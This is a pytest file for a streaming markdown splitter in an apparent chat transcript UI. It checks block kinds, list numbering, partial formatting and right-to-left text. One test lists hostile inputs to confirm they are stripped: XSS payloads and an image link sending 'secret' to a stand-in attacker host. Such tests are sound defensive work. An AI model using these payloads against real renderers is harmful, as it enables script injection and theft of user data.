"""A growing answer is split as the whole one is, whatever the pieces it comes in."""

from __future__ import annotations

import pytest

from smallmind.ui.transcript.markdown_blocks import Block, BlockKind, BlockSplitter, split_markdown

ANSWER = """# Title

A paragraph with **bold**, `code` and a [link](https://example.org).
A second line.

1. one
1. two
   - nested

   still two
1. three

- [x] done
- [ ] open

```python
def f():
    return "```"
```

> quoted
> twice

| a | b |
|---|--:|
| 1 | 2 |

    indented code

Underlined
----------

***

~~~
left open
"""


def kinds(blocks: list[Block]) -> list[str]:
    return [block.kind.value for block in blocks]


@pytest.mark.parametrize("size", [1, 2, 3, 7, 50, 10_000])
def test_pieces_of_any_size_give_the_same_blocks(size: int) -> None:
    splitter = BlockSplitter()
    for start in range(0, len(ANSWER), size):
        splitter.append(ANSWER[start : start + size])
    splitter.finish()
    assert splitter.finished == split_markdown(ANSWER)


def test_every_kind_is_found() -> None:
    expected = "heading paragraph item item item item item code quote table code heading rule code"
    assert kinds(split_markdown(ANSWER)) == expected.split()


def test_finished_blocks_never_change() -> None:
    splitter = BlockSplitter()
    seen: list[Block] = []
    for character in ANSWER:
        splitter.append(character)
        assert splitter.finished[: len(seen)] == seen
        assert len(splitter.tail) <= 1
        seen = list(splitter.finished)


def test_numbers_go_on_when_items_are_split() -> None:
    starts = [block.html.split(">")[0] for block in split_markdown("3. a\n3. b\n3. c")]
    assert starts == ['<ol start="3"', '<ol start="4"', '<ol start="5"']


def test_an_open_fence_is_code_at_once_and_hides_its_half_written_end() -> None:
    splitter = BlockSplitter()
    splitter.append("```c\nint x;\n``")
    assert splitter.tail == [Block(BlockKind.CODE, code="int x;", language="c")]


def test_begun_bold_and_code_are_shown_as_such() -> None:
    splitter = BlockSplitter()
    splitter.append("some **bold wor")
    assert splitter.tail[0].html == "<p>some <strong>bold wor</strong></p>\n"
    splitter.append("ds** and `co")
    assert "<code>co</code>" in splitter.tail[0].html


def test_a_begun_marker_is_not_shown() -> None:
    splitter = BlockSplitter()
    splitter.append("text\n-")
    assert splitter.tail[0].html == "<p>text</p>\n"


@pytest.mark.parametrize(
    "hostile",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "![leak](https://evil.example/?q=secret)",
        "[x](javascript:alert(1))",
        "[x](data:text/html,hi)",
        "<style>@import url(https://evil.example)</style>",
        "- <img src='https://evil.example/x.png'>",
        "| a |\n|---|\n| <img src=x> |",
    ],
)
def test_no_markup_of_the_model_passes(hostile: str) -> None:
    html = "".join(block.html for block in split_markdown(hostile)).lower()
    assert "<img" not in html
    assert "<script" not in html
    assert "<style" not in html
    assert 'href="javascript' not in html
    assert 'href="data' not in html


def test_right_to_left_text_is_marked() -> None:
    blocks = split_markdown("مرحبا\n\n- واحد\n\nhello")
    assert ['dir="rtl"' in block.html for block in blocks] == [True, True, False]
